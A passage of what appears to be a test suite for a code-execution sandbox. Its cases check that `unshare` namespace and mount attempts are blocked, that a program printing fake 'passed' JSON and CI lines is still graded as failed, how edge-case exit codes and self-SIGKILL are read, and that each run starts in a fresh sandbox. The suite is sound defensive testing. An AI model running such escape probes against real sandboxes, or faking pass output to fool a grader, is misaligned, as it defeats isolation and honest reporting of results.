        'for a in -r -U -m -n -i -pf; do if unshare $a true 2>/dev/null; then echo "unshare $a allowed"; else echo "unshare $a blocked"; fi; done',
        "unshare -r sh -c 'mount -t tmpfs none /tmp' 2>/dev/null && echo 'mount allowed' || echo 'mount blocked'",
      ].join('\n'),
    expect: { status: 'passed' },
    providers: {
      e2b: {
        why: "the boundary is the VM: namespaces inside it are the VM kernel's business (the emulator allows them, as an unrestricted kernel does); nothing reaches the host",
      },
    },
    verify: (o, _c, provider) => {
      const flags = ['-r', '-U', '-m', '-n', '-i', '-pf'];
      if (provider === 'e2b') {
        expect(lines(o)).toHaveLength(flags.length + 1);
        flags.forEach((a, i) => expect(lines(o)[i]).toMatch(new RegExp(`^unshare ${a} (allowed|blocked)$`)));
        return;
      }
      expect(lines(o)).toEqual(flags.map((a) => `unshare ${a} blocked`).concat('mount blocked'));
    },
  },
  {
    id: 'result-spoofing',
    row: 34,
    title: 'prints a passing result and exits 1',
    language: 'python',
    code: () =>
      [
        'import sys',
        'print(\'{"version":1,"totals":{"passed":1,"failed":0},"checks":[{"status":"passed","exitCode":0}]}\')',
        'print(\'{"child-pid": 2, "exit-code": 0}\')',
        'print("::set-output name=status::passed")',
        'print("1 passed, 0 failed")',
        'sys.exit(1)',
      ].join('\n'),
    expect: { status: 'failed', reason: 'exit_code', exitCode: 1 },
  },
  {
    id: 'exit-256',
    row: 35,
    title: 'sys.exit(256)',
    language: 'python',
    code: () => 'import sys\nsys.exit(256)',
    // The kernel keeps the low 8 bits: 256 is 0.
    expect: { status: 'passed', exitCode: 0 },
  },
  {
    id: 'exit-minus-one',
    row: 35,
    title: 'exit -1',
    language: 'bash',
    code: () => 'exit -1',
    expect: { status: 'failed', reason: 'exit_code', exitCode: 255 },
  },
  {
    id: 'self-sigkill',
    row: 35,
    title: 'kill -9 $$',
    language: 'bash',
    code: () => 'echo before\nkill -9 $$',
    expect: { status: 'failed', reason: 'signal', signal: 'SIGKILL', exitCode: 137 },
    verify: (o) => expect(o.stdout.head).toBe('before\n'),
  },
  {
    id: 'exit-137',
    row: 35,
    title: 'exit 137 (looks like SIGKILL)',
    language: 'bash',
    code: () => 'exit 137',
    expect: { status: 'failed', reason: 'exit_code', exitCode: 137 },
    providers: {
      local: {
        reason: 'signal',
        signal: 'SIGKILL',
        why: 'sh and bwrap both encode a death by signal n as exit status 128+n, so exit(137) cannot be told from SIGKILL',
      },
      e2b: {
        reason: 'signal',
        signal: 'SIGKILL',
        why: 'the program runs under `sh -c`, which reports a death by signal n as exit status 128+n, so the provider reads 137 as SIGKILL',
      },
    },
  },
];

/** The check run after every case, in the same run: it must find a fresh sandbox and pass. */
export const PROBE = {
  name: 'probe (next check)',
  language: 'bash',
  code: 'echo "workspace: $(ls -A | tr "\\n" " ")"\nfor d in /tmp /var/tmp /dev/shm; do echo "$d: $(ls -A $d 2>/dev/null | tr "\\n" " ")"; done\necho probe-ok',
  /** What the probe prints in a fresh sandbox (the local provider; E2B may list more in /tmp). */
  expectedStdout: 'workspace: main.sh \n/tmp: \n/var/tmp: \n/dev/shm: \nprobe-ok\n',
};
